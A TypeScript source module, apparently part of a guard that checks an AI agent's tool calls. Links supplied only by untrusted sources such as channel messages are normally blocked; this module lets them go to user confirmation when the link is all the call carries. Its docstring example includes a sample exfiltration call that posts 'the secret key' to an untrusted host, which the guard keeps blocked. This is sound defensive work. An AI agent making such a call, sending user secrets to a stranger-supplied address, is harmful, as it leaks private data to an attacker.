/**
 * A call that carries nothing but a stranger's link: the way to yes for
 * opening a link no source the user pointed at supplied.
 *
 * Delegation-aware escalation blocks, with no human, a link that only sources
 * the user never pointed at supplied. For a call that sends something (a post,
 * a message, a payment), that is right: the link is where the user's data
 * would go. A call whose every other argument is empty or weak (a flag, a
 * small number) sends nothing but the link itself, copied as a stranger wrote
 * it: what it can reveal, its writer already knew. Opening it is still the
 * stranger's choice, not the user's, so the user is asked, naming the link
 * and its source ("read the article Bob posted" needs the link Bob's message
 * holds); a call that carries anything else stays blocked.
 *
 * @module
 */
import { isWeakValue } from "../harvest/mod.ts";
import { isLink } from "./designation.ts";
import type { Gap } from "./gap.ts";
import { readLeaves } from "./read_leaves.ts";
import type { ToolCall } from "./tool_call.ts";

/**
 * Turn the blocks of a call that carries nothing but one stranger's link into
 * questions: when the call's only escalated gap (`delegation: "undesignated"`)
 * is a top-level argument whose whole value is a link (a URL or a host), and
 * every other argument is a boolean, `null`, or blank or weak in every leaf
 * (`isWeakValue`), that gap
 * becomes `confirm` with `delegation: "link"`. Any other gap of block severity
 * keeps the call blocked, and the gaps are otherwise returned unchanged.
 *
 * @example
 * ```ts
 * import assert from "node:assert/strict";
 * import { askBeforeOpening } from "./link_only.ts";
 * import { makeToolCall } from "./tool_call.ts";
 * const gap = {
 *   code: "untrusted-argument" as const, severity: "block" as const, message: "url=…", argument: "url",
 *   value: "www.informations.com", sources: ["tool:read_channel_messages[body]"], delegation: "undesignated" as const,
 * };
 * const open = askBeforeOpening(makeToolCall("get_webpage", { url: "www.informations.com" }), [gap]);
 * assert.equal(open[0].severity, "confirm");
 * assert.equal(open[0].delegation, "link");
 * const post = makeToolCall("post_webpage", { url: "www.informations.com", content: "the secret key is 1a7b3d" });
 * assert.equal(askBeforeOpening(post, [gap])[0].severity, "block");
 * ```
 */
export function askBeforeOpening(call: ToolCall, gaps: readonly Gap[]): Gap[] {
  const blocks = gaps.filter((gap) => gap.severity === "block");
  if (blocks.length !== 1) return [...gaps];
  const [gap] = blocks;
  if (gap.code !== "untrusted-argument" || gap.delegation !== "undesignated" || gap.value === undefined) {
    return [...gaps];
  }
  const arg = gap.argument;
  if (arg === undefined || !Object.hasOwn(call.args, arg) || typeof call.args[arg] !== "string") return [...gaps];
  if ((call.args[arg] as string).trim() !== gap.value.trim() || !isLink(gap.value)) return [...gaps];
  for (const [other, value] of Object.entries(call.args)) {
    if (other === arg) continue;
    if (typeof value === "boolean" || value === null) continue;
    for (const leaf of readLeaves(value, other)) {
      if (leaf.text.trim() && !isWeakValue(leaf.text)) return [...gaps];
    }
  }
  const clause = "; the call carries nothing but this link, so the user is asked whether to open it";
  return gaps.map((each) =>
    each === gap
      ? { ...gap, severity: "confirm" as const, delegation: "link" as const, message: gap.message + clause }
      : each
  );
}
